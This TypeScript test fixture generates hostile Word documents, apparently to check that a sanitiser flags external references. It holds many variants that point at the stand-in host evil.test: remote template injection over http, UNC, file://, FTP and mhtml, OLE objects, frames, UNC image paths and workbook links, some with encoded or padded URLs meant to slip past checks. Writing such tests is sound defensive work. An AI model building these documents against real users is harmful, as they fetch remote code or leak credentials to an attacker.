import { contentTypes, officeRelationship, relationships, wordDocument, workbook } from '../word-parts.ts'
import type { Hostile } from './changes.ts'

const overrides = {
  settings: 'settings',
  webSettings: 'webSettings',
  header1: 'header',
  footer1: 'footer',
  footnotes: 'footnotes',
}

/** A document with one external relationship in `part`. */
function reaching(kind: string, target: string, part = 'document', attributes = { external: true }) {
  const types = Object.entries(overrides).map(
    ([name, type]) =>
      `<Override PartName="/word/${name}.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.${type}+xml"/>`,
  )
  return wordDocument({
    '[Content_Types].xml': contentTypes({ overrides: types.join('') }),
    [`word/_rels/${part}.xml.rels`]: relationships({ type: officeRelationship(kind), target, ...attributes }),
  })
}

const hostile = (what: string, make: () => Buffer): Hostile => ({ what, reason: 'external_reference', make })

/** Documents that make Word open a connection. */
export const external: Hostile[] = [
  ...['http://evil.test/a.dotm', 'https://evil.test/a.dotm', '\\\\evil.test\\share\\a.dotm'].flatMap(
    (target) =>
      ['attachedTemplate', 'oleObject', 'frame', 'subDocument'].map((kind) =>
        hostile(`${kind} at ${target}`, () =>
          reaching(kind, target, kind === 'attachedTemplate' ? 'settings' : 'document'),
        ),
      ),
  ),
  ...[
    'file://evil.test/share/a.dotm',
    'file:////evil.test/share/a.dotm',
    'file:///\\\\evil.test\\share\\a.dotm',
    'file:///%5C%5Cevil.test/share/a.dotm',
    '%255c%255cevil.test/share/a.dotm',
    '//evil.test/share/a.dotm',
    'FTP://evil.test/a.dotm',
    'mhtml:http://evil.test/a!x-usc:http://evil.test/a',
    ' http://evil.test/a.dotm',
  ].map((target) =>
    hostile(`a template at "${target}"`, () => reaching('attachedTemplate', target, 'settings')),
  ),
  ...['header1', 'footer1', 'footnotes', 'webSettings'].map((part) =>
    hostile(`a frame in ${part}`, () => reaching('frame', 'https://evil.test/', part)),
  ),
  hostile('a template as a hyperlink of the settings', () =>
    reaching('hyperlink', 'https://evil.test/a.dotm', 'settings'),
  ),
  hostile('a picture as a template', () => reaching('image', 'https://evil.test/a.dotm', 'settings')),
  hostile('a picture on a file server', () => reaching('image', '\\\\evil.test\\share\\a.png')),
  hostile('an object without the mode that says so', () =>
    reaching('oleObject', 'https://evil.test/a', 'document', { external: false }),
  ),
  hostile('an object of the whole package', () =>
    wordDocument({
      '_rels/.rels': relationships(
        { type: officeRelationship('officeDocument'), target: 'word/document.xml' },
        { type: officeRelationship('oleObject'), target: 'https://evil.test/a', external: true },
      ),
    }),
  ),
  hostile('an object in a part with a name in capitals', () =>
    wordDocument({
      'word/_rels/HEADER1.XML.RELS': relationships({
        type: officeRelationship('oleObject'),
        target: 'https://evil.test/a',
        external: true,
      }),
    }),
  ),
  hostile('a link of a workbook in the document', () =>
    wordDocument({
      'word/embeddings/book.xlsx': workbook({
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationships({
          type: officeRelationship('externalLinkPath'),
          target: 'https://evil.test/a.xlsx',
          external: true,
        }),
      }),
    }),
  ),
]
